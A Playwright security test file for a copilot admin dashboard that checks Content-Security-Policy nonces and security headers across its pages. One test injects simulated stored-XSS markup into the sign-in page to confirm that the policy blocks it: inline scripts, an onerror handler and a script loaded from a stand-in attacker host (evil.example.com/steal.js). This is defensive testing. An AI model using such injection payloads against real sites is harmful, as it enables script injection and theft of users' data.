import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { ADMIN, createCopilotThroughUi } from '../support/accounts';
import { addHeader, headerRow, openHeaderRowAction } from '../support/headers';
import { watchSecurity } from '../support/security-headers';

// A local API for the test request panel.
let api: Server;
let apiOrigin: string;

test.beforeAll(async () => {
  api = createServer((req, res) => {
    req.resume();
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ ok: true }));
  });
  await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve));
  apiOrigin = `http://127.0.0.1:${(api.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  api.closeAllConnections();
  await new Promise((resolve) => api.close(resolve));
});

test('[SECURITY][CSP] [csp-nonce-policy] (fixed: no Content-Security-Policy): every dashboard page and dialog runs under the nonce policy with no violation and every security header', async ({ page, context }) => {
  test.setTimeout(180_000);
  const watch = await watchSecurity(context);

  // Sign-in page, a failed attempt, then a real sign-in through the form.
  await page.goto('/copilots');
  await expect(page).toHaveURL(/\/sign-in$/);
  await page.getByLabel('Email').fill(ADMIN.email);
  await page.getByLabel('Password').fill('not the password');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page.getByRole('alert').filter({ hasText: 'incorrect' })).toBeVisible();
  await page.getByLabel('Password').fill(ADMIN.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page).toHaveURL(/\/copilots$/);
  await page.reload();

  // New copilot: a field error, then the copilot (a toast), its General tab, widget token copy, both confirmations.
  await page.goto('/copilots/new');
  await page.getByRole('button', { name: 'Create copilot' }).click();
  await expect(page.getByText('Give the copilot a name')).toBeVisible();
  const copilotId = await createCopilotThroughUi(page, 'CSP check', apiOrigin);
  const base = `/copilots/${copilotId}`;
  await page.goto(base);
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByRole('button', { name: 'Copy widget token' }).click();
  await expect(page.getByText('Widget token copied')).toBeVisible();
  for (const name of ['Regenerate widget token', 'Delete copilot']) {
    await page.getByRole('button', { name }).click();
    await expect(page.getByRole('alertdialog')).toBeVisible();
    await page.keyboard.press('Escape');
  }

  // Headers tab: add (dialog + toast), edit dialog, delete confirmation, a test request.
  await page.goto(`${base}/headers`);
  await addHeader(page, { kind: 'API key', name: 'X-API-Key', value: 'csp-check-api-key-7d1e' }, 'X-API-Key');
  await headerRow(page, 'X-API-Key').getByRole('button', { name: 'Edit X-API-Key' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  await openHeaderRowAction(page, 'X-API-Key', 'Delete');
  await expect(page.getByRole('alertdialog')).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByLabel('Path').fill('/health');
  await page.getByRole('button', { name: 'Send' }).click();
  await expect(page.getByTestId('test-request-status')).toHaveText('200');

  // Runtime API tab: the create-key dialog and the key shown once.
  await page.goto(`${base}/runtime`);
  await page.getByRole('button', { name: 'Create server key' }).click();
  await page.getByRole('dialog').getByLabel('Key name').fill('csp engine');
  await page.getByRole('dialog').getByRole('button', { name: 'Create key' }).click();
  await expect(page.getByTestId('server-key-secret')).toBeVisible();
  await page.getByRole('dialog').getByRole('button', { name: 'Done' }).click();

  // Actions and Model tabs: an import (the switches render) and the model forms.
  await page.goto(`${base}/actions`);
  await page.getByLabel('OpenAPI document').fill('{"openapi":"3.1.0","info":{"title":"CSP API","version":"1"},"paths":{"/health":{"get":{"responses":{"200":{"description":"ok"}}}}}}');
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(page.getByRole('switch', { name: 'GET /health' })).toBeVisible();
  await page.goto(`${base}/model`);
  // Filled, not saved: the Preview tab below must still say a model is missing.
  await page.getByLabel('Endpoint (base URL)').fill('https://models.csp.example.com/v1');
  await page.getByLabel('Model', { exact: true }).fill('csp-model');

  // Members and audit tabs, reached by their tab links (client navigation) and loaded in full.
  await page.getByRole('link', { name: 'Members' }).click();
  await expect(page).toHaveURL(new RegExp(`${base}/members$`));
  await page.reload();
  await page.getByRole('link', { name: 'Audit' }).click();
  await expect(page).toHaveURL(new RegExp(`${base}/audit$`));
  await page.reload();
  await expect(page.getByText('X-API-Key').first()).toBeVisible();
  // The Preview tab with no model yet: its empty state. (The live widget and a chat under this policy:
  // e2e/chat/widget-e2e.spec.ts.)
  await page.getByRole('link', { name: 'Preview' }).click();
  await expect(page).toHaveURL(new RegExp(`${base}/preview$`));
  await page.reload();
  await expect(page.getByRole('link', { name: 'Open the Model tab' })).toBeVisible();
  const missing = await page.goto('/copilots/00000000-0000-4000-8000-000000000000');
  expect(missing?.status()).toBe(404);

  // The account pages: Account, Users (with the dialog a reset link opens, left unanswered), Instance settings.
  await page.goto('/account');
  await expect(page.getByRole('heading', { name: 'Account' })).toBeVisible();
  await page.goto('/admin/users');
  await page.getByRole('button', { name: `Password-reset link: ${ADMIN.email}` }).click();
  await expect(page.getByRole('alertdialog').getByRole('button', { name: 'Create link' })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.goto('/admin/settings');
  await expect(page.getByLabel('Instance admins only')).toBeVisible();

  // A phone-sized window, then sign out.
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(`${base}/headers`);
  await expect(headerRow(page, 'X-API-Key')).toBeVisible();
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page).toHaveURL(/\/sign-in/);
  // The link pages, signed out (an unknown link shows the "not valid" card).
  const unknownInvite = `/invite/chinv_${'A'.repeat(43)}`;
  const unknownReset = `/reset-password/chrst_${'A'.repeat(43)}`;
  await page.goto(unknownInvite);
  await expect(page.getByRole('heading', { name: 'This invitation link is not valid' })).toBeVisible();
  await page.goto(unknownReset);
  await expect(page.getByRole('heading', { name: 'This password-reset link is not valid' })).toBeVisible();

  for (const path of ['/sign-in', '/copilots', '/copilots/new', base, `${base}/headers`, `${base}/runtime`, `${base}/actions`, `${base}/model`, `${base}/preview`, `${base}/members`, `${base}/audit`, '/copilots/00000000-0000-4000-8000-000000000000', '/account', '/admin/users', '/admin/settings', unknownInvite, unknownReset]) {
    expect(watch.pages, `${path} was loaded as a full page`).toContain(path);
  }
  expect(await watch.problems()).toEqual([]);
});

test('[SECURITY][CSP] [csp-nonce-policy] (fixed: no Content-Security-Policy): the policy is live — markup injected into a page cannot run script or load from elsewhere; each page gets a new nonce', async ({ page, context }) => {
  const watch = await watchSecurity(context);
  const first = await page.goto('/sign-in');
  const second = await page.goto('/sign-in');
  const nonceOf = (policy: string | undefined) => /'nonce-([^']+)'/.exec(policy ?? '')?.[1];
  const [a, b] = [nonceOf(first?.headers()['content-security-policy']), nonceOf(second?.headers()['content-security-policy'])];
  expect(a).toBeTruthy();
  expect(b).toBeTruthy();
  expect(a).not.toBe(b);

  // What stored XSS would look like: the real page, with its real headers, carrying an attacker's markup.
  await page.route('**/sign-in', async (route) => {
    const response = await route.fetch();
    const injected = [
      '<script>window.__injected = "inline"</script>',
      '<img src="x" onerror="window.__injected = \'handler\'">',
      '<script src="https://evil.example.com/steal.js"></script>',
      '<img src="https://tracker.example.com/pixel.gif">',
    ].join('');
    await route.fulfill({ response, body: (await response.text()).replace('<body', `<body data-injected="1"`).replace('</body>', `${injected}</body>`) });
  });
  await page.goto('/sign-in');
  await page.getByLabel('Email').fill('still hydrated');
  await page.getByRole('button', { name: 'Sign in' }).click();
  // Next's own nonced scripts still ran (its route announcer is an empty alert too, hence the text).
  await expect(page.getByRole('alert').filter({ hasText: 'Email or password is incorrect.' })).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { __injected?: string }).__injected ?? null)).toBeNull();
  const problems = await watch.problems();
  for (const expected of ['script-src-elem blocked inline', 'script-src-attr blocked inline', 'script-src-elem blocked https://evil.example.com', 'img-src blocked https://tracker.example.com']) {
    expect(problems.some((p) => p.startsWith(`CSP violation: ${expected}`)), `${expected} in ${JSON.stringify(problems)}`).toBe(true);
  }
});

test('[SECURITY][HEADERS]: route handlers keep their own answers — no page policy on the runtime API, security headers on static files', async ({ page, request }) => {
  const relay = await request.post('/api/v1/relay', { data: { request: { method: 'GET', url: '/x' } }, headers: { origin: 'https://app.example.com' } });
  expect(relay.status()).toBe(401);
  expect(relay.headers()['content-security-policy']).toBeUndefined();
  expect(await relay.json()).toMatchObject({ error: { code: 'unauthorized' } });

  await page.goto('/sign-in');
  const script = await page.locator('script[src^="/_next/static/"]').first().getAttribute('src');
  const asset = await request.get(script!);
  expect(asset.status()).toBe(200);
  expect(asset.headers()['content-type']).toMatch(/javascript/);
  expect(asset.headers()['x-content-type-options']).toBe('nosniff');
});
